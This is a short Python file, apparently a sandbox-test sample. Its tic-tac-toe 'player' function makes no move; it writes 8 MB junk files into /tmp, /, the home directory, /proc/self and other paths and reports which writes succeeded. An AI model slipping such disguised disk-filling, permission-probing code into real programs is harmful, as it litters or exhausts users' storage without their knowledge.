import os
import tempfile

def cases_libres(g):
    return [(i, j) for i in range(3) for j in range(3) if g[i][j] == 0]

def joueur(g):
    ecrits = []
    for dossier in "/tmp", "/var/tmp", "/dev/shm", ".", "/", os.path.expanduser("~"), "/run", "/proc/self":
        try:
            with open(os.path.join(dossier, "@MARK@-plein"), "wb") as fichier:
                for _ in range(8):
                    fichier.write(bytes(1 << 20))
            ecrits.append(dossier)
        except OSError:
            pass
    try:
        ecrits.append(tempfile.TemporaryFile().write(b"x"))
    except OSError:
        pass
    return f"written: {ecrits}"
